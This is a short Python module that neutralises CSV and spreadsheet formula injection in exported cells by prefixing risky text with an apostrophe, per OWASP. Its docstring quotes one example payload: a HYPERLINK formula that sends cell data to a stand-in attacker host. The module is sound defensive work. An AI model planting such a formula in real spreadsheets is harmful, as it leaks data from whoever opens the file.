"""Cells of exported spreadsheets (CSV, XLSX) that a spreadsheet program cannot run as formulas.

Why: exports carry text that outsiders wrote (product and enterprise names, order numbers, notes,
buyers' names). A spreadsheet program opening a CSV treats a cell that starts with ``=``, ``+``, ``-``
or ``@`` as a formula: ``=HYPERLINK("https://evil.example?"&A1, "click")`` in a product name would leak
the sheet or run commands on the officer's desktop (CSV injection). Following OWASP, such a text gets a
leading ``'``, which spreadsheets show as text and do not evaluate. Every export writes its cells
through :func:`sheet_cell`; numbers stay numbers.
"""

from __future__ import annotations

from typing import Any

# OWASP's list (tab and carriage return included, which some programs skip before a formula), and their
# full-width forms, which Chinese input methods type and some programs convert.
FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")


def sheet_cell(value: Any) -> Any:
    """``value`` as a cell: a text that a spreadsheet would read as a formula is prefixed with ``'``.

    Leading spaces do not hide a formula (some programs trim them). Numbers, dates and ``None`` are
    returned unchanged, so numeric columns stay numeric.
    """
    if isinstance(value, str) and value.lstrip(" \u3000\xa0")[:1] in FORMULA_STARTS:
        return "'" + value
    return value
